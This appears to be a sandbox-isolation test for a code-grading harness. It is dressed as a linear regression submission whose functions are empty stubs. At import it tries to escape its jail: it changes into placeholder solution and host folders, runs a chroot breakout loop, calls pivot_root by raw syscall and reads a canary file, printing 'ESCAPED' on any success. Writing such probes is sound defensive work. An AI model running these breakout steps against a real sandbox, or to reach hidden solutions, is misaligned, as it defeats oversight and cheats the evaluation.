# tries: to leave its root by changing folder and root: chdir, chroot, pivot_root
# exercise: linear_regression
import ctypes
import os
import platform
import tempfile

PIVOT_ROOT = 41 if platform.machine() == "aarch64" else 155
OWN, JAIL = tempfile.gettempdir(), tempfile.gettempdir() + "/jail"
call = ctypes.CDLL(None, use_errno=True).syscall


def quietly(way, *arguments):
    try:
        way(*arguments)
    except OSError:
        return False
    return True


for path in ("@FOLDER@", "@SOLUTIONS@", "/proc/1/root@FOLDER@"):
    if quietly(os.chdir, path):
        print(f"ESCAPED: went to {path}")
quietly(os.mkdir, JAIL)
if quietly(os.chroot, JAIL) or quietly(os.chroot, OWN):
    print("ESCAPED: changed its root")
    for _ in range(64):
        quietly(os.chdir, "..")
    quietly(os.chroot, ".")
if call(PIVOT_ROOT, JAIL.encode(), JAIL.encode()) == 0 or call(PIVOT_ROOT, b".", b".") == 0:
    print("ESCAPED: turned its root round")
try:
    with open("@CANARY@") as file:
        print("ESCAPED:", file.read())
except OSError:
    pass


def compute_loss(*arguments):
    return None


def train_parameters_linear_regression(*arguments, **keywords):
    return None
